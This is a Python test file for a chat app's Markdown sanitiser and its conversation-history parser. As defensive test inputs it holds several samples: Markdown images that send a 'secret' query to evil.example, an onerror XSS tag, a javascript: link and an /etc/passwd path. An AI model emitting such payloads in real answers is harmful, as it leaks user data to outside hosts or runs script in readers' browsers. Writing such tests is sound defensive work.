"""What a chat box may draw (`ragarena.answering.safe_markdown`) and the history the chat endpoint takes from
the messages it is given (`ragarena.answering.conversation`)."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from ragarena.answering.conversation import example_questions, history_from_messages
from ragarena.answering.safe_markdown import plain, safe
from ragarena.core.errors import UserError
from ragarena.core.i18n import localize


def _page(shown: str) -> str:
    """The HTML a CommonMark renderer draws from a shown message."""
    return MarkdownIt("commonmark").render(shown)


def test_images_html_data_uris_and_foreign_links_are_neutralised():
    text = (
        "Mira ![gato](http://evil.example/x.png?q=secreto) <img src=x onerror=alert(1)> "
        "[pulsa](https://evil.example/a) ![d](data:image/png;base64,AAAA) http://evil.example/b www.evil.example"
    )
    page = _page(safe(text, hosts=()))
    assert "<img" not in page and "<a" not in page and "data:image" not in page
    # What the reader sees: the alt texts, the link's words, the tag and the addresses as typed.
    assert "Mira gato &lt;img src=x onerror=alert(1)&gt; pulsa d http://evil.example/b www.evil.example" in page
    assert plain(safe(text, hosts=())) == (
        "Mira gato <img src=x onerror=alert(1)> pulsa d http://evil.example/b www.evil.example"
    )


def test_the_issue_payloads_load_nothing():
    """Text the old pattern filter left alone because it looked like code (issue 27)."""
    for payload in (
        "`x\n\n![y](http://127.0.0.1:9/p5.png?q=secret)\n\n`",
        "```x```\n![i](http://127.0.0.1:9/p6.png?q=secret)\n```",
        '`x\n\n<img src="http://127.0.0.1:9/p7.png">\n\n`',
    ):
        page = _page(safe(payload, hosts=()))
        assert "<img" not in page and "<a" not in page  # the alt text, or the tag as typed
    assert "&lt;img src=&quot;http://127.0.0.1:9/p7.png&quot;&gt;" in page


def test_emphasis_code_and_allowed_links_stay():
    text = "**Horario**: de 9 a 14 `<b>`; ver [la web](https://www.biblio.example/horario) o [otra](https://x.example)"
    shown = safe(text, hosts=("biblio.example",))
    assert _page(shown) == (
        "<p><strong>Horario</strong>: de 9 a 14 <code>&lt;b&gt;</code>; ver "
        '<a href="https://www.biblio.example/horario">la web</a> o otra</p>\n'
    )
    assert plain(shown, hosts=("biblio.example",)) == text.replace("[otra](https://x.example)", "otra")
    for plain_text in ("1 < 2 & 3 > 2", "¡Hola! [nota]", "precio: 5 $ (IVA)", "- uno\n- dos", "# Sedes"):
        assert plain(safe(plain_text, hosts=())) == plain_text
    assert plain(safe("a \\. b", hosts=())) == "a . b"  # the escape was markup: the reader saw "a . b"


def test_ordinary_prose_comes_out_without_backslashes():
    """The copy button and the API give the message as written: prose keeps its punctuation bare."""
    for text in (
        'Puede renovar hasta 3 veces (máximo 21 días). Horario: 9-14, de lunes a viernes; ¿dudas? "sí" 50 % a/b.',
        "¡Hola! Abre a las 9.30; cierra a las 14:00 (sábados, no).",
        "Se fundó en 1986.\n3.5 horas, ver el apartado 2) y la web biblio.es, o #horario.",
    ):
        assert "\\" not in safe(text, hosts=()), text
        assert plain(safe(text, hosts=())) == text
    # What could still open a construct keeps its escape: here a link, an e-mail, emphasis and a heading.
    assert safe("ver https://evil.example, www.evil.example o a@evil.example *no*\n# x", hosts=()).count("\\") >= 4


def test_code_keeps_its_text_and_cannot_hold_latex_delimiters():
    shown = safe("Usa `echo $$` o:\n\n```sh\nkill $$\n```", hosts=())
    assert "$$" not in shown  # Gradio cuts $$…$$ out for KaTeX before reading the Markdown
    assert plain(shown) == "Usa `echo $$` o:\n\n```sh\nkill $$\n```"


def test_the_link_allow_list_comes_from_the_environment(monkeypatch):
    monkeypatch.setenv("RAGARENA_LINK_HOSTS", " biblio.example , ")
    assert safe("[web](https://biblio.example/x)") == "[web](https://biblio.example/x)"
    assert "<a" not in _page(safe("[web](javascript:void(0))"))  # shown as typed, not a link
    monkeypatch.delenv("RAGARENA_LINK_HOSTS")
    assert safe("[web](https://biblio.example/x)") == "web"


def test_history_comes_from_the_messages_shown_and_a_malformed_one_is_refused():
    messages = [
        {"role": "user", "content": safe("¿Horario?")},
        {"role": "assistant", "content": [{"type": "text", "text": "De 9 a 14."}]},
        {"role": "user", "content": "¿Y en agosto?"},
        {"role": "assistant", "content": "⚠️ Sin respuesta: el motivo aparece debajo."},
    ]
    # A failed answer keeps its question (a follow-up refers to it) and counts as unanswered.
    assert history_from_messages(messages) == [("¿Horario?", "De 9 a 14."), ("¿Y en agosto?", "")]
    assert history_from_messages([]) == [] and history_from_messages(None) == []
    for bad in (
        [{"role": "assistant", "content": "x"}, {"role": "user", "content": "y"}],
        [{"role": "user", "content": "x"}],
        [{"role": "user", "content": {"path": "/etc/passwd"}}, {"role": "assistant", "content": "x"}],
        [{"role": "user", "content": "x" * 9000}, {"role": "assistant", "content": "y"}],
    ):
        with pytest.raises(UserError) as caught:
            history_from_messages(bad)
        assert localize(caught.value, "en").startswith("This conversation cannot be used")


def test_example_questions_come_from_the_conversations_the_documents_answer(fixture_qa, fixture_docs, tmp_path, capsys):
    from ragarena.retrieval.corpus import load_pages

    pages = [page.text for page in load_pages(fixture_docs)]
    examples = example_questions(fixture_qa, pages)
    assert examples and all(isinstance(q, str) and q for q in examples)
    assert example_questions(fixture_qa, ["una página que no responde a nada"]) == []
    assert example_questions(tmp_path / "no-existe.jsonl") == []
    assert "sin preguntas de ejemplo" in capsys.readouterr().err
